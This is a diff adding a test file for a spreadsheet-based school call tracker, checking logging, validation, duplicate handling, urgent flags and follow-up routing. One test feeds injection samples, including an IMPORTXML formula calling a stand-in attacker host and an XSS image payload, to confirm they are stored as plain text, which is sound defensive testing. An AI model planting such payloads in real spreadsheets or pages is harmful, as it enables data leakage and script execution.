@@ -1,0 +1,249 @@
+import {
+  addCallRows,
+  callInput,
+  newTracker,
+  OWNER,
+  records,
+  STRANGER,
+  SUPPORT,
+  tab,
+  TEACHER,
+  TEACHER2,
+  headersOf,
+} from './helpers';
+import type { CallFormData, SubmitResult } from '../../src/contract';
+
+function submit(emu: ReturnType<typeof newTracker>, user: string, input: Record<string, unknown>) {
+  return emu.callFromClient('submitCall', [input], { user }) as { value: SubmitResult; serviceCalls: number };
+}
+
+describe('submitCall', () => {
+  it('a teacher logs a conversation: one row, identity from the session, progress back', () => {
+    const emu = newTracker();
+    const { value } = submit(emu, TEACHER, callInput({ staffEmail: 'principal.maple@district.example.org' }));
+    expect(value).toMatchObject({ ok: true, urgent: false, alreadyLogged: false, warnings: [] });
+    if (!value.ok) return;
+    expect(value.callId).toMatch(/^C-/);
+    expect(value.progress).toMatchObject({
+      goal: 10,
+      counted: 1,
+      familiesReached: 1,
+      attempts: 1,
+      text: '1 of 10 families reached',
+    });
+    const [row] = records(emu, 'Call Log');
+    expect(row).toMatchObject({
+      'Call ID': value.callId,
+      'Staff Email': TEACHER,
+      'Staff Name': 'Ms. Ortiz',
+      School: 'Maple Elementary',
+      Student: 'Liam Chen',
+      'Student ID': '00200',
+      Outcome: 'Conversation',
+      Urgent: false,
+      'Urgent Reason': '',
+    });
+    expect(row['Call Date']).toBeInstanceOf(Date);
+    expect((row['Call Date'] as Date).toISOString()).toBe('2026-11-20T06:00:00.000Z');
+    expect((row['Logged At'] as Date).toISOString()).toBe('2026-11-23T15:00:00.000Z');
+  });
+
+  it('someone not on Staff gets a clear message and nothing is written', () => {
+    const emu = newTracker();
+    const { value } = submit(emu, STRANGER, callInput());
+    expect(value).toEqual({
+      ok: false,
+      errors: { form: expect.stringContaining(`${STRANGER} is not on the Staff tab`) },
+    });
+    expect(records(emu, 'Call Log')).toHaveLength(0);
+  });
+
+  it('a blank email is explained, and the call is never credited to anyone', () => {
+    const emu = newTracker();
+    const { value } = submit(emu, '', callInput());
+    expect(value.ok).toBe(false);
+    if (!value.ok) expect(value.errors.form).toContain('outside your school');
+    expect(records(emu, 'Call Log')).toHaveLength(0);
+  });
+
+  it.each([
+    ['callDate', { callDate: '2026-11-24' }, "can't be in the future"],
+    ['callDate', { callDate: '2026-01-05' }, "can't be before the Calls Start Date"],
+    ['student', { student: '' }, 'Enter the student'],
+    ['method', { method: 'Fax' }, 'Method must be one of'],
+    ['outcome', { outcome: 'Maybe' }, 'Outcome must be one of'],
+    ['familyMember', { familyMember: ' ' }, 'Say who you spoke with'],
+    ['interpreter', { interpreter: 'Google Translate' }, 'Interpreter must be one of'],
+    ['notes', { notes: 'a'.repeat(5001) }, 'the limit is 5,000'],
+    ['followUpNeeded', { followUpNeeded: 'TRUE' }, 'must be ticked or not'],
+  ])('rejects a bad %s with a message for that field, writing nothing', (field, overrides, message) => {
+    const emu = newTracker();
+    const { value } = submit(emu, TEACHER, callInput(overrides));
+    expect(value.ok).toBe(false);
+    if (!value.ok) expect(value.errors[field as keyof typeof value.errors]).toContain(message);
+    expect(records(emu, 'Call Log')).toHaveLength(0);
+  });
+
+  it('stores hostile strings as literal text: no formula, no number', () => {
+    const emu = newTracker();
+    const hostile = {
+      student: '=IMPORTXML("http://evil.example","//a")',
+      familyMember: '+1',
+      studentId: '00123',
+      notes: '<img src=x onerror=alert(1)>',
+      familyStrengths: '-2+3',
+      hopesAndDreams: '@everyone',
+      language: '=1+1',
+    };
+    const { value } = submit(emu, TEACHER, callInput(hostile));
+    expect(value.ok).toBe(true);
+    const [row] = records(emu, 'Call Log');
+    expect(row).toMatchObject({
+      Student: hostile.student,
+      'Family Member': '+1',
+      'Student ID': '00123',
+      Notes: hostile.notes,
+      'Family Strengths': '-2+3',
+      'Hopes & Dreams': '@everyone',
+      Language: '=1+1',
+    });
+    const log = tab(emu, 'Call Log');
+    const formulas = log.getRange(2, 1, 1, headersOf(emu, 'Call Log').length).getFormulas()[0];
+    expect(formulas.every((f) => f === '')).toBe(true);
+  });
+
+  it('the same submissionId twice gives one row and the same Call ID', () => {
+    const emu = newTracker();
+    const input = callInput();
+    const first = submit(emu, TEACHER, input).value;
+    const second = submit(emu, TEACHER, input).value;
+    expect(records(emu, 'Call Log')).toHaveLength(1);
+    expect(second).toMatchObject({ ok: true, alreadyLogged: true, callId: first.ok ? first.callId : 'x' });
+  });
+
+  it('two executions submitting at once both land, one after the other, under the lock', async () => {
+    const emu = newTracker();
+    const executions = await emu.runConcurrently([
+      {
+        fn: 'submitCall',
+        args: [callInput({ student: 'Mateo Ruiz', studentId: '00123', familyMember: 'Ana Ruiz' })],
+        user: TEACHER,
+        client: true,
+      },
+      { fn: 'submitCall', args: [callInput({ student: 'Liam Chen' })], user: TEACHER2, client: true },
+    ]);
+    expect(executions.map((e) => (e.value as SubmitResult).ok)).toEqual([true, true]);
+    const rows = records(emu, 'Call Log');
+    expect(rows.map((r) => r.Student).sort()).toEqual(['Liam Chen', 'Mateo Ruiz']);
+    expect(new Set(rows.map((r) => r['Call ID'])).size).toBe(2);
+  });
+
+  it('flags urgent from a phrase in the notes, and routes it to Follow-ups', () => {
+    const emu = newTracker();
+    const { value } = submit(emu, TEACHER, callInput({ notes: 'Mom said the family was Evicted last week' }));
+    expect(value).toMatchObject({ ok: true, urgent: true, urgentReason: 'Matched: "evicted"' });
+    expect(records(emu, 'Call Log')[0]).toMatchObject({
+      Urgent: true,
+      'Urgent Reason': 'Matched: "evicted"',
+    });
+    expect(records(emu, 'Follow-ups')[0]).toMatchObject({
+      School: 'Maple Elementary',
+      Staff: 'Ms. Ortiz',
+      Student: 'Liam Chen',
+      Reason: 'Urgent: Matched: "evicted"',
+      'Assigned To': `${SUPPORT}, liaison.maple@district.example.org`,
+      Status: 'Open',
+    });
+  });
+
+  it('flags urgent when the caller ticks it', () => {
+    const emu = newTracker();
+    const { value } = submit(emu, TEACHER, callInput({ urgent: true }));
+    expect(value).toMatchObject({ ok: true, urgent: true, urgentReason: 'Marked by caller' });
+  });
+
+  it('warns when the household was already reached by someone else, and still logs', () => {
+    const emu = newTracker();
+    submit(
+      emu,
+      TEACHER2,
+      callInput({
+        student: 'Sofia Ruiz',
+        studentId: '00124',
+        familyMember: 'Ana Ruiz (grandmother)',
+        callDate: '2026-09-03',
+      }),
+    );
+    const form = emu.callFromClient('getCallFormData', [], { user: TEACHER }).value as CallFormData;
+    const mateo = form.families.find((f) => f.student === 'Mateo Ruiz');
+    expect(mateo).toMatchObject({
+      assignedToMe: true,
+      priority: 'New family',
+      attempts: 1,
+      siblings: ['Sofia Ruiz'],
+    });
+    expect(mateo?.reached).toEqual({ by: 'Mr. Nguyen', on: '2026-09-03', byMe: false });
+    const { value } = submit(
+      emu,
+      TEACHER,
+      callInput({ student: 'Mateo Ruiz', studentId: '00123', familyMember: 'Ana Ruiz (grandmother)' }),
+    );
+    expect(value).toMatchObject({
+      ok: true,
+      warnings: ['This family was already reached by Mr. Nguyen on Sep 3.'],
+    });
+    expect(records(emu, 'Call Log')).toHaveLength(2);
+  });
+
+  it('hands a family off to Follow-ups after the set number of unanswered attempts', () => {
+    const emu = newTracker();
+    for (let i = 0; i < 3; i++) submit(emu, TEACHER, callInput({ outcome: 'No answer', familyMember: '' }));
+    expect(records(emu, 'Follow-ups').map((r) => r.Reason)).toEqual([
+      'Not reached after 3 attempts: needs a plan to reach the family.',
+    ]);
+  });
+
+  it('service calls per submit are the same for 100 and 50,000 rows', () => {
+    const calls = (n: number) => {
+      const emu = newTracker();
+      addCallRows(emu, n);
+      return submit(emu, TEACHER, callInput()).serviceCalls;
+    };
+    const small = calls(100);
+    expect(calls(50_000)).toBe(small);
+    expect(small).toBeLessThanOrEqual(25);
+  });
+});
+
+describe('getCallFormData', () => {
+  it('tells the teacher who they are, their goal, and their families with theirs first', () => {
+    const emu = newTracker();
+    const { value, serviceCalls } = emu.callFromClient('getCallFormData', [], { user: TEACHER }) as {
+      value: CallFormData;
+      serviceCalls: number;
+    };
+    expect(value).toMatchObject({
+      ok: true,
+      me: { email: TEACHER, name: 'Ms. Ortiz', school: 'Maple Elementary', role: 'Teacher' },
+      progress: { goal: 10, counted: 0, text: '0 of 10 families reached' },
+      today: '2026-11-23',
+      callsStartDate: '2026-08-01',
+    });
+    expect(value.families.map((f) => f.student)).toEqual(['Mateo Ruiz', 'Liam Chen', 'Sofia Ruiz']);
+    expect(value.families[0].studentId).toBe('00123');
+    expect(serviceCalls).toBeLessThan(20);
+  });
+
+  it('explains itself to someone not on Staff and to a blank email', () => {
+    const emu = newTracker();
+    expect(emu.callFromClient('getCallFormData', [], { user: STRANGER }).value).toMatchObject({ ok: false });
+    expect(emu.callFromClient('getCallFormData', [], { user: '' }).value).toMatchObject({
+      ok: false,
+      message: expect.stringContaining('school account'),
+    });
+    expect(emu.callFromClient('getCallFormData', [], { user: OWNER }).value).toMatchObject({
+      ok: true,
+      progress: { goal: null },
+    });
+  });
+});
